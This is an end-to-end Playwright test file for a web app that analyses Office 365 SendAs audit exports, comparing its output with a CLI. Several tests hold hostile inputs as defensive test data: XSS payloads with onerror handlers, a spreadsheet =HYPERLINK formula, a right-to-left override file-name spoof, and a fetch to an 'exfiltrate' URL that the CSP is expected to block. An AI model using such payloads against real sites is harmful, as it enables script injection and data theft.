// End-to-end tests of the release build in Debian's headless Chromium, driven by playwright-core.
//
// The app is served from dist/ under a sub-path (/sendas/lens/) by a tiny static server in
// this file, which also records every request. The CLI gives the expected answers: the same
// core, natively, on the same files.
//
// Run: node --test tests/e2e/   (scripts/test.sh builds dist/ and the CLI first)
// Env: SENDAS_LENS_BIN (the CLI binary), CHROMIUM (default /usr/bin/chromium).

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFile, mkdir, writeFile, open as openFile, rm } from 'node:fs/promises';
import { readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { execFileSync, spawnSync } from 'node:child_process';
import { join, dirname, basename } from 'node:path';
import { fileURLToPath } from 'node:url';
import { serveDist, launchChromium, headline, expectedHeadline, waitForResult, loadFile } from './support.mjs';

const root = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
const dist = join(root, 'dist');
const fixtures = join(root, 'tests', 'fixtures');
const artifacts = join(root, 'tests', 'e2e', 'artifacts');
const cli = process.env.SENDAS_LENS_BIN || join(root, 'target', 'debug', 'sendas-lens');
const BASE = '/sendas/lens/';

const served = [];
let server;
let origin;
let browser;

before(async () => {
  ({ server, origin } = await serveDist(dist, BASE, {
    intercept: (req) => {
      served.push(req.url);
      return false;
    },
  }));
  browser = await launchChromium();
  await mkdir(artifacts, { recursive: true });
});

after(async () => {
  await browser?.close();
  server?.close();
});

/** A fresh page that fails the test on any script error or dialog, and records requests. */
async function openApp(hash = '') {
  const context = await browser.newContext({ acceptDownloads: true, viewport: { width: 1400, height: 1000 } });
  const page = await context.newPage();
  const requests = [];
  const problems = [];
  page.on('request', (r) => requests.push(r.url()));
  page.on('pageerror', (e) => problems.push(`page error: ${e.message}`));
  page.on('dialog', async (d) => {
    problems.push(`dialog opened: ${d.message()}`);
    await d.dismiss();
  });
  await page.goto(`${origin}${BASE}${hash}`);
  await page.waitForSelector('[data-testid=drop-zone]');
  return { page, context, requests, problems };
}

function cliSummaryText(files) {
  return execFileSync(cli, ['summary', '--json', ...files], { encoding: 'utf8' });
}

function cliSummary(files) {
  return JSON.parse(cliSummaryText(files));
}


async function downloadText(page, testid) {
  const [download] = await Promise.all([page.waitForEvent('download'), page.click(`[data-testid=${testid}]`)]);
  const path = await download.path();
  return { name: download.suggestedFilename(), text: await readFile(path, 'utf8') };
}

// Every fixture the CLI reads (the good ones and the damaged ones it still reads).
const FATAL = new Set(['empty.csv', 'not-an-audit-export.csv', 'workbook-dropped-by-mistake.xlsx', 'archive-dropped-by-mistake.zip', 'binary-garbage.bin']);
const FORMATS = [
  ...readdirSync(fixtures).filter((f) => /\.(csv|json|jsonl)$/.test(f)),
  ...readdirSync(join(fixtures, 'bad')).filter((f) => !FATAL.has(f)).map((f) => `bad/${f}`),
];

test('every fixture: headline numbers, class counts and the JSON report equal the CLI', async () => {
  const { page, context, problems } = await openApp();
  for (const name of FORMATS) {
    const path = join(fixtures, name);
    await loadFile(page, path);
    const expectedText = cliSummaryText([path]);
    const expected = JSON.parse(expectedText);
    assert.deepEqual(await headline(page), expectedHeadline(expected), name);
    const report = await downloadText(page, 'download-report');
    assert.equal(report.name, 'sendas-lens-report.json');
    assert.deepEqual(JSON.parse(report.text), expected, `${name}: the app's report differs from summary --json`);
    // Not just the same data: the same bytes.
    assert.equal(report.text, expectedText, `${name}: the app's report is not byte-identical to summary --json`);
  }
  assert.deepEqual(problems, []);
  await context.close();
});

test('several files dropped at once merge, with duplicates and bounded delays', async () => {
  const { page, context, problems } = await openApp();
  const files = ['daily-export-2026-11-20.csv', 'daily-export-2026-11-21.csv'].map((f) => join(fixtures, f));
  const buffers = await Promise.all(files.map((f) => readFile(f)));
  await page.locator('[data-testid=drop-zone]').drop({
    files: files.map((f, i) => ({ name: basename(f), mimeType: 'text/csv', buffer: buffers[i] })),
  });
  await waitForResult(page);
  const shown = await headline(page);
  assert.equal(shown.numbers['rows-read'], 8);
  assert.equal(shown.numbers.events, 5);
  assert.equal(shown.numbers.duplicates, 3);
  assert.deepEqual(problems, []);
  await context.close();
});

test('the sample loads with one click and matches the CLI; a screenshot is saved', async () => {
  const { page, context, problems } = await openApp();
  await page.click('[data-testid=load-sample]');
  await waitForResult(page);
  const expected = cliSummary([join(root, 'src', 'sample', 'field-report.jsonl')]);
  assert.deepEqual(await headline(page), expectedHeadline(expected));
  for (const id of ['chart-attribution', 'chart-matrix', 'chart-timeline', 'chart-delays', 'events-table']) {
    assert.ok(await page.isVisible(`[data-testid=${id}]`), `${id} is shown`);
  }
  // The charts are drawn from the data: one bar segment per actor and class at least.
  assert.ok((await page.locator('[data-testid=chart-attribution] rect.seg').count()) >= 8);
  assert.ok((await page.locator('[data-testid=chart-delays] rect.delay-bar').count()) >= 3);
  const findings = await page.textContent('.findings');
  assert.match(findings, /79% of SendAs events \(84\) were written by 2 Office 365 connectors/);
  assert.match(findings, /still carry tony@contoso\.com's name/);
  await page.screenshot({ path: join(artifacts, 'sample.png'), fullPage: true });
  assert.deepEqual(problems, []);
  await context.close();
});

test('attacker text stays text: no script runs, no element is created from it', async () => {
  const { page, context, problems } = await openApp();
  await page.click('[data-testid=load-sample]');
  await waitForResult(page);
  await page.fill('input[type=search]', 'onerror');
  const row = page.locator('[data-testid=events-table] tr.row').first();
  await row.click();
  const raw = await page.textContent('[data-testid=raw-record]');
  assert.ok(raw.includes('<img src=x onerror=alert(1)>'), 'the payload is shown as characters');
  assert.ok((await page.textContent('[data-testid=events-table]')).includes('<img src=x onerror=alert(1)>'));
  assert.equal(await page.locator('img').count(), 0, 'no <img> element exists anywhere');
  assert.deepEqual(problems, []);
  await context.close();
});

test('CSV export neutralises formulas', async () => {
  const { page, context } = await openApp();
  await page.click('[data-testid=load-sample]');
  await waitForResult(page);
  const csv = await downloadText(page, 'download-csv');
  assert.equal(csv.name, 'sendas-lens-events.csv');
  assert.ok(csv.text.startsWith('time,operation,class,actor,mailbox'));
  assert.ok(csv.text.includes(`"'=HYPERLINK(""http://example.invalid""`), 'the formula cell starts with a quote');
  assert.ok(!/(^|,)=HYPERLINK/m.test(csv.text), 'no cell starts with =');
  await context.close();
});

test('filters live in the URL fragment and survive a reload', async () => {
  const { page, context } = await openApp();
  await page.click('[data-testid=load-sample]');
  await waitForResult(page);
  await page.click('.legend-item:has([data-testid=class-count-delegate])');
  await page.waitForFunction(() => location.hash.includes('class=delegate'));
  const shown = await page.locator('[data-testid=events-table] tr.row').count();
  assert.equal(shown, 15);
  await page.reload();
  await page.click('[data-testid=load-sample]');
  await waitForResult(page);
  assert.equal(await page.locator('.legend-item.pressed').count(), 1);
  assert.equal(await page.locator('[data-testid=events-table] tr.row').count(), 15);
  await context.close();
});

test('a page load plus a full analysis requests nothing but the app\'s own files', async () => {
  served.length = 0;
  const { page, context, requests } = await openApp();
  await page.click('[data-testid=load-sample]');
  await waitForResult(page);
  await page.setInputFiles('[data-testid=file-input]', join(fixtures, 'purview-article-scenario.csv'));
  await page.waitForFunction(() => document.querySelector('[data-testid=rows-read]')?.textContent === '26');
  const own = new Set(['', 'index.html']);
  for (const f of (await import('node:fs')).readdirSync(dist)) own.add(f);
  for (const url of requests) {
    assert.ok(url.startsWith(`${origin}${BASE}`), `request outside the app: ${url}`);
    const file = new URL(url).pathname.slice(BASE.length);
    assert.ok(own.has(file), `request for something that is not an app file: ${url}`);
  }
  assert.ok(requests.some((u) => u.endsWith('worker_bg.wasm')), 'the worker was loaded');
  await writeFile(join(artifacts, 'requests.txt'), requests.join('\n') + '\n');
  await context.close();
});

test('unusable files get the same clear reason as from the CLI', async () => {
  const { page, context, problems } = await openApp();
  for (const name of FATAL) {
    const path = join(fixtures, 'bad', name);
    let cliMessage = '';
    try {
      execFileSync(cli, ['summary', path], { encoding: 'utf8', stdio: 'pipe' });
      assert.fail(`${name}: the CLI accepted it`);
    } catch (e) {
      assert.equal(e.status, 2, name);
      cliMessage = e.stderr.trim().split(': ').slice(2).join(': ');
    }
    await page.setInputFiles('[data-testid=file-input]', path);
    await page.waitForSelector('[data-testid=error]');
    await page.waitForFunction((n) => document.querySelector('[data-testid=error]')?.textContent.includes(n), name);
    const shown = await page.textContent('[data-testid=error]');
    assert.ok(shown.includes(cliMessage), `${name}: "${shown}" does not say "${cliMessage}"`);
  }
  assert.deepEqual(problems, []);
  await context.close();
});

test('a mixed drop: the unusable file is named, and the report equals the CLI\'s', async () => {
  const { page, context, problems } = await openApp();
  for (const bad of ['bad/not-an-audit-export.csv', 'bad/empty.csv']) {
    const paths = ['purview-article-scenario.csv', bad].map((f) => join(fixtures, f));
    // Real files (not buffers), so their modification times are the ones the CLI sees.
    await page.setInputFiles('[data-testid=file-input]', paths);
    await page.waitForFunction(
      (n) => document.querySelector('[data-testid=unusable-inputs]')?.textContent.includes(n),
      basename(bad),
      { timeout: 30000 },
    );
    // The CLI reads the good file, warns about the other and succeeds.
    const run = spawnSync(cli, ['summary', '--json', ...paths], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
    assert.equal(run.status, 0, `${bad}: ${run.stderr}`);
    assert.ok(run.stderr.split('\n').some((line) => line.includes('warning: ') && line.includes(basename(bad))), run.stderr);
    const expected = JSON.parse(run.stdout);
    assert.deepEqual(expected.unusable_inputs.map((u) => u.file), [basename(bad)], bad);
    assert.deepEqual(await headline(page), expectedHeadline(expected), bad);
    const report = JSON.parse((await downloadText(page, 'download-report')).text);
    assert.deepEqual(report, expected, `${bad}: the app's report differs from summary --json`);
    assert.deepEqual(report.unusable_inputs.map((u) => u.file), [basename(bad)], bad);
    const { reason } = expected.unusable_inputs[0];
    assert.ok(reason.length > 0, bad);
    assert.equal(await page.textContent('[data-testid=unusable-inputs]'), `Not read: ${basename(bad)}: ${reason}`, bad);
    assert.ok((await page.textContent('[data-testid=sources]')).includes(`${basename(bad)} (not read)`), bad);
  }
  // Nothing usable: no report, and each file's reason on its own line.
  const both = ['empty.csv', 'not-an-audit-export.csv'].map((f) => join(fixtures, 'bad', f));
  await page.setInputFiles('[data-testid=file-input]', both);
  await page.waitForSelector('[data-testid=error]');
  const none = spawnSync(cli, ['summary', ...both], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
  assert.equal(none.status, 2);
  const shown = await page.textContent('[data-testid=error]');
  assert.equal(shown, both.map((path) => `${basename(path)}: ${cliReason(path)}`).join('\n'));
  assert.deepEqual(problems, []);
  await context.close();
});

/** The CLI's reason for an unusable file on its own (its message after "sendas-lens: <path>: "). */
function cliReason(path) {
  const run = spawnSync(cli, ['summary', path], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
  assert.equal(run.status, 2, path);
  return run.stderr.trim().split(': ').slice(2).join(': ');
}

test('an XSS corpus in every displayed field stays inert and the layout holds', async () => {
  const { page, context, problems } = await openApp();
  const scriptsBefore = await page.locator('script').count();
  const buffer = await readFile(join(fixtures, 'bad', 'xss-in-every-field.csv'));
  await page.setInputFiles('[data-testid=file-input]', { name: "<img src=x onerror=alert('file')>.csv", mimeType: 'text/csv', buffer });
  await waitForResult(page);
  assert.ok((await page.textContent('[data-testid=sources]')).includes("<img src=x onerror=alert('file')>.csv"));
  const rows = page.locator('[data-testid=events-table] tr.row');
  const n = await rows.count();
  assert.equal(n, 8);
  for (let i = 0; i < n; i++) {
    await rows.nth(i).click();
    await page.waitForSelector('[data-testid=detail-panel]');
  }
  const table = await page.textContent('[data-testid=events-table]');
  assert.ok(table.includes('[U+202E]gnp.exe'), 'a right-to-left override is shown, not obeyed');
  assert.ok(!table.includes('\u202e'), 'no raw bidi control reaches the screen');
  assert.equal(await page.locator('img').count(), 0, 'no <img> was created');
  assert.equal(await page.locator('script').count(), scriptsBefore, 'no <script> was added');
  assert.equal(await page.locator('svg [onload], svg circle').count(), 0, 'no SVG from the data');
  assert.equal(await page.locator('style').count(), 0, 'no <style> from the data');
  assert.notEqual(await page.evaluate(() => getComputedStyle(document.body).display), 'none');
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  assert.ok(overflow <= 1, `a 4,000-character string widened the page by ${overflow}px`);
  assert.ok((await page.textContent('[data-testid=raw-record]')).length > 0);
  await page.screenshot({ path: join(artifacts, 'xss.png'), fullPage: false });
  assert.deepEqual(problems, []);
  await context.close();
});

test('the CSP blocks any destination but the app\'s own origin', async () => {
  const { page, context } = await openApp();
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    let fetched = 'no';
    try {
      await fetch('http://127.0.0.2:9/exfiltrate?data=1');
      fetched = 'yes';
    } catch {
      fetched = 'blocked';
    }
    await new Promise((r) => setTimeout(r, 100));
    return { fetched, violations };
  });
  assert.equal(outcome.fetched, 'blocked');
  assert.ok(outcome.violations.includes('connect-src'), JSON.stringify(outcome));
  await context.close();
});

/** RFC 4180, as a spreadsheet reads it. */
function parseCsv(text) {
  const rows = [];
  let row = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; }
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(field); field = ''; }
    else if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i++; }
    else field += c;
  }
  if (field || row.length) { row.push(field); rows.push(row); }
  return rows;
}

test('the CSV export round-trips in a spreadsheet parser with every formula neutralised', async () => {
  const { page, context } = await openApp();
  const path = join(fixtures, 'bad', 'xss-in-every-field.csv');
  await page.setInputFiles('[data-testid=file-input]', path);
  await waitForResult(page);
  const csv = await downloadText(page, 'download-csv');
  const [header, ...rows] = parseCsv(csv.text);
  assert.equal(rows.length, 8);
  const col = (name) => header.indexOf(name);
  const lines = execFileSync(cli, ['events', path, '--jsonl'], { encoding: 'utf8' }).trim().split('\n').map((l) => JSON.parse(l));
  for (const row of rows) {
    assert.equal(row.length, header.length);
    for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell), `cell starts like a formula: ${cell.slice(0, 40)}`);
    const subject = row[col('subject')];
    const original = lines.find((l) => l.subject === subject || `'${l.subject}` === subject)?.subject;
    assert.ok(original !== undefined, `subject survives the round trip: ${subject.slice(0, 40)}`);
    assert.equal(subject, /^[=+\-@\t\r]/.test(original) ? `'${original}` : original);
  }
  await context.close();
});

test('a file far larger than any record streams through with a clear message', async () => {
  const { page, context, problems } = await openApp();
  // 1 GiB: a valid header, then zeros with no line break (sparse, so it costs no disk).
  const path = join(tmpdir(), 'sendas-lens-1gib.csv');
  const handle = await openFile(path, 'w');
  await handle.write('CreationDate,UserIds,Operations,AuditData\n');
  await handle.truncate(1 << 30);
  await handle.close();
  try {
    await page.setInputFiles('[data-testid=file-input]', path);
    await page.waitForSelector('[data-testid=progress]');
    await page.waitForFunction(() => document.querySelector('[data-testid=sources]')?.textContent.includes('sendas-lens-1gib.csv'), null, { timeout: 120000 });
    const shown = await headline(page);
    assert.equal(shown.numbers['rows-read'], 1);
    assert.equal(shown.numbers.rejected, 1);
    await page.click('.card-button');
    assert.match(await page.textContent('[data-testid=rejected-list]'), /larger than 64 MiB/);
    assert.deepEqual(problems, []);
  } finally {
    await rm(path, { force: true });
    await context.close();
  }
});

test('charts work from the keyboard: Enter on a bar or a cell filters', async () => {
  const { page, context, problems } = await openApp();
  await page.click('[data-testid=load-sample]');
  await waitForResult(page);
  await page.focus('[data-testid=chart-attribution] .bar-row');
  await page.keyboard.press('Enter');
  await page.waitForFunction(() => location.hash.includes('actor=tony%40contoso.com') || location.hash.includes('actor=tony@contoso.com'));
  // The table is virtualised (only the rows in view exist): read its count from the heading.
  assert.match(await page.textContent('#events-title'), /\(60\)/);
  await page.focus('[data-testid=chart-matrix] .cell');
  await page.keyboard.press(' ');
  await page.waitForFunction(() => location.hash.includes('mailbox='));
  assert.deepEqual(problems, []);
  await context.close();
});

test('a stream of garbage rows after a header: every row counted, the first kept, the tab survives', async () => {
  const { page, context, problems } = await openApp();
  // A Purview header, then 30 million one-character rows (60 MB): each one a rejected row.
  const path = join(tmpdir(), 'sendas-lens-garbage-rows.csv');
  const handle = await openFile(path, 'w');
  await handle.write('RecordId,CreationDate,RecordType,Operation,UserId,AuditData\n');
  const block = Buffer.from('x\n'.repeat(1 << 20));
  for (let i = 0; i < 30; i++) await handle.write(block);
  await handle.close();
  try {
    const expectedText = cliSummaryText([path]);
    const expected = JSON.parse(expectedText);
    assert.equal(expected.rejected, 30 * (1 << 20));
    assert.equal(expected.errors.length, 100);
    assert.deepEqual(expected.rejected_by_reason.map((r) => [r.reason, r.count, r.first_line, r.last_line]), [['column-count', 30 * (1 << 20), 2, 30 * (1 << 20) + 1]]);
    await page.setInputFiles('[data-testid=file-input]', path);
    await page.waitForFunction(() => document.querySelector('[data-testid=sources]')?.textContent.includes('sendas-lens-garbage-rows.csv'), null, { timeout: 120000 });
    assert.deepEqual(await headline(page), expectedHeadline(expected));
    const report = await downloadText(page, 'download-report');
    assert.equal(report.text, expectedText, 'the same report, byte for byte');
    assert.deepEqual(problems, []);
  } finally {
    await rm(path, { force: true });
    await context.close();
  }
});

/** The alert panel's four numbers, named as `alerts --json` names them. */
async function alertNumbers(page) {
  const read = async (id) => Number(await page.textContent(`[data-testid=${id}]`));
  return {
    alerts_fired: await read('alert-fired'),
    alerts_noise_only: await read('alert-noise-only'),
    alerts_after_exclusion: await read('alert-after-exclusion'),
    person_events_lost: await read('alert-person-lost'),
  };
}

function expectedAlertNumbers(report) {
  const { alerts_fired, alerts_noise_only, alerts_after_exclusion, person_events_lost } = report;
  return { alerts_fired, alerts_noise_only, alerts_after_exclusion, person_events_lost };
}

function cliAlerts(files, args = []) {
  return JSON.parse(execFileSync(cli, ['alerts', ...files, ...args, '--json'], { encoding: 'utf8' }));
}

/** Non-zero classes in report order, as the panel writes them: `connector 6, delegate 1`. */
function classesText(counts) {
  const parts = Object.entries(counts).filter(([, n]) => n > 0).map(([c, n]) => `${c} ${n}`);
  return parts.length ? parts.join(', ') : 'none';
}

/** Lets the page handle what was just typed and render. */
async function settle(page) {
  await page.evaluate(() => new Promise((ok) => requestAnimationFrame(() => setTimeout(ok, 0))));
}

/** Sets the alert panel's inputs the way a keyboard user does; `undefined` leaves one as it is. */
async function setAlert(page, { threshold, window, operations, actor, mailbox } = {}) {
  if (operations) {
    for (const op of ['SendAs', 'SendOnBehalf', 'Send']) {
      await page.setChecked(`[data-testid=alert-op-${op}]`, operations.includes(op));
    }
  }
  for (const [id, value] of [['alert-threshold', threshold], ['alert-actor', actor], ['alert-mailbox', mailbox]]) {
    if (value === undefined) continue;
    await page.fill(`[data-testid=${id}]`, String(value));
    await page.press(`[data-testid=${id}]`, 'Enter');
  }
  if (window !== undefined) await page.selectOption('[data-testid=alert-window]', window);
  await settle(page);
}

/** The CLI's alert flags for the same settings. */
function alertFlags({ threshold, window, operations, actor, mailbox } = {}) {
  const flags = [];
  for (const op of operations || []) flags.push('--operation', op);
  if (threshold !== undefined) flags.push('--threshold', String(threshold));
  if (window !== undefined) flags.push('--window', window);
  if (actor) flags.push('--actor', actor);
  if (mailbox) flags.push('--mailbox', mailbox);
  return flags;
}

test('every fixture: the alert panel, with its default settings, counts what `alerts --json` counts', async () => {
  const { page, context, problems } = await openApp();
  for (const name of FORMATS) {
    const path = join(fixtures, name);
    await loadFile(page, path);
    const expected = cliAlerts([path]);
    assert.deepEqual(await alertNumbers(page), expectedAlertNumbers(expected), name);
    assert.equal(expected.person_events_lost, 0, name);
  }
  assert.deepEqual(problems, []);
  await context.close();
});

test('the alert panel tuned on the field report\'s scenario equals the CLI, window by window', async () => {
  const { page, context, problems } = await openApp();
  const path = join(fixtures, 'purview-article-scenario.csv');
  await page.setInputFiles('[data-testid=file-input]', path);
  await waitForResult(page);
  for (const settings of [{ threshold: 2, window: '1d' }, { threshold: 1, window: '1h' }]) {
    await setAlert(page, settings);
    const label = JSON.stringify(settings);
    const expected = cliAlerts([path], alertFlags(settings));
    const shown = await alertNumbers(page);
    assert.deepEqual(shown, expectedAlertNumbers(expected), label);
    assert.ok(shown.alerts_fired > 0, label);
    assert.equal(shown.alerts_after_exclusion, shown.alerts_fired - shown.alerts_noise_only, label);
    assert.equal(shown.person_events_lost, 0, label);
    assert.equal(await page.textContent('[data-testid=alert-exclusion]'), expected.exclusion, label);
    assert.equal(
      await page.textContent('[data-testid=alert-matching]'),
      `Matching events: ${Object.values(expected.events).reduce((a, b) => a + b, 0)} (${classesText(expected.events)})`,
      label,
    );
    // Every window that fires: its start, classes, noise marker and earliest firing ("at least"
    // unless the arrival was measured: this export has no arrival times).
    const rows = await page.$$eval('[data-testid=alert-windows] tbody tr', (trs) =>
      trs.map((tr) => [...tr.querySelectorAll('td')].map((td) => td.textContent)));
    assert.deepEqual(
      rows.map((r) => r.slice(0, 4)),
      expected.alerts.map((a) => [
        a.window_start,
        classesText(a.events),
        a.noise_only ? 'noise only' : '',
        `${a.fire_basis === 'measured' ? '' : 'at least '}${a.earliest_fire}`,
      ]),
      label,
    );
    assert.ok(expected.alerts.every((a) => a.fire_basis === 'event-time'), label);
    assert.ok(rows.every((r) => r[4].includes('no arrival time')), label);
  }
  // The exclusion never names applications, and the page says why.
  assert.ok(!/application/i.test(await page.textContent('[data-testid=alert-exclusion]')));
  assert.match(await page.textContent('[data-testid=alert-panel]'), /Application sends are never excluded/);
  // An export without arrival times shows the one generated delay query.
  const delays = execFileSync(cli, ['kql', '--target', 'sentinel', '--query', 'delays'], { encoding: 'utf8' });
  assert.equal(await page.textContent('[data-testid=delays-kql]'), delays);
  // A threshold that is not a number of events is refused in words, not evaluated.
  await setAlert(page, { threshold: 0 });
  assert.match(await page.textContent('[data-testid=alert-error]'), /threshold/);
  assert.equal(await page.locator('[data-testid=alert-fired]').count(), 0);
  await setAlert(page, { threshold: 1 });
  assert.equal(await page.locator('[data-testid=alert-error]').count(), 0);
  assert.deepEqual(problems, []);
  await context.close();
});

test('the KQL panel shows and saves exactly what `sendas-lens kql` prints, the tuned alert included', async () => {
  const { page, context, problems } = await openApp();
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
  await page.click('[data-testid=load-sample]');
  await waitForResult(page);
  const kql = (args) => execFileSync(cli, ['kql', ...args], { encoding: 'utf8' });
  const choose = async (target, query) => {
    await page.selectOption('[data-testid=kql-target]', target);
    await page.selectOption('[data-testid=kql-query]', query);
    await settle(page);
  };
  for (const [target, query] of [['sentinel', 'classify'], ['sentinel', 'delays'], ['defender', 'classify']]) {
    await choose(target, query);
    const expected = kql(['--target', target, '--query', query]);
    assert.equal(await page.textContent('[data-testid=kql-text]'), expected, `${target} ${query}`);
    const saved = await downloadText(page, 'kql-download');
    assert.equal(saved.name, `sendas-lens-${target}-${query}.kql`);
    assert.equal(saved.text, expected, `${target} ${query}: the download`);
  }
  // The sample has measured arrival times: each window's earliest firing is a time, not a bound.
  const sampleAlerts = cliAlerts([join(root, 'src', 'sample', 'field-report.jsonl')]);
  assert.deepEqual(await alertNumbers(page), expectedAlertNumbers(sampleAlerts));
  const fires = await page.$$eval('[data-testid=alert-windows] tbody tr td:nth-child(4)', (tds) => tds.map((td) => td.textContent));
  assert.deepEqual(fires, sampleAlerts.alerts.map((a) => `${a.fire_basis === 'measured' ? '' : 'at least '}${a.earliest_fire}`));
  assert.ok(sampleAlerts.alerts.some((a) => a.fire_basis === 'measured'));
  // The tuned alert: the panel's settings, as the CLI's alert flags.
  const settings = { operations: ['SendAs', 'SendOnBehalf'], threshold: 3, window: '15m', actor: 'tony@contoso.com' };
  await setAlert(page, settings);
  for (const target of ['sentinel', 'defender']) {
    await choose(target, 'alert');
    const expected = kql(['--target', target, '--query', 'alert', ...alertFlags(settings)]);
    assert.match(expected, /900s/);
    assert.equal(await page.textContent('[data-testid=kql-text]'), expected, `${target} alert`);
    assert.equal((await downloadText(page, 'kql-download')).text, expected, `${target} alert: the download`);
  }
  // Copy puts the very text on the clipboard.
  await page.click('[data-testid=kql-copy]');
  await page.waitForFunction(() => document.querySelector('[data-testid=kql-status]')?.textContent.startsWith('Copied'));
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), await page.textContent('[data-testid=kql-text]'));
  // Defender has no delay query, and says why (the CLI refuses it with the same reason).
  await choose('defender', 'delays');
  const refused = spawnSync(cli, ['kql', '--target', 'defender', '--query', 'delays'], { encoding: 'utf8' });
  assert.equal(refused.status, 2);
  const why = await page.textContent('[data-testid=kql-unavailable]');
  assert.match(why, /no ingestion time/);
  assert.ok(why.includes(refused.stderr.trim().replace(/^sendas-lens: /, '')), why);
  assert.match(await page.textContent('[data-testid=kql-query] option:checked'), /Sentinel only, advanced hunting has no ingestion time/);
  assert.equal(await page.locator('[data-testid=kql-text]').count(), 0);
  assert.ok(await page.isDisabled('[data-testid=kql-copy]'));
  assert.ok(await page.isDisabled('[data-testid=kql-download]'));
  // No control inside another, and every control in the panels has a name.
  const nested = await page.$$eval(
    '[data-testid=alert-panel], [data-testid=kql-panel]',
    (panels) => panels.flatMap((p) => [...p.querySelectorAll('button, a, input, select, textarea, [tabindex]')])
      .filter((el) => el.parentElement.closest('button, a, [role=button]')).length,
  );
  assert.equal(nested, 0);
  const unnamed = await page.$$eval('[data-testid=alert-panel] input, [data-testid=alert-panel] select, [data-testid=kql-panel] select, [data-testid=kql-panel] button',
    (els) => els.filter((el) => !(el.labels?.length && el.labels[0].textContent.trim()) && !el.textContent.trim()).map((el) => el.outerHTML));
  assert.deepEqual(unnamed, []);
  assert.deepEqual(problems, []);
  await context.close();
});

test('where the page may not copy, the query is selected and the page says so', async () => {
  const { page, context, problems } = await openApp();
  await page.addInitScript(() => Object.defineProperty(Navigator.prototype, 'clipboard', { get: () => undefined }));
  await page.reload();
  await page.click('[data-testid=load-sample]');
  await waitForResult(page);
  await page.focus('[data-testid=kql-copy]');
  await page.keyboard.press('Enter');
  await page.waitForFunction(() => document.querySelector('[data-testid=kql-status]')?.textContent.includes('selected'));
  // A selection's text leaves out the block's last line break; the rest is the query.
  const selected = await page.evaluate(() => getSelection().toString());
  assert.equal(selected.trimEnd(), (await page.textContent('[data-testid=kql-text]')).trimEnd());
  assert.ok(selected.length > 1000);
  assert.equal(await page.evaluate(() => document.activeElement?.dataset.testid), 'kql-text');
  assert.deepEqual(problems, []);
  await context.close();
});
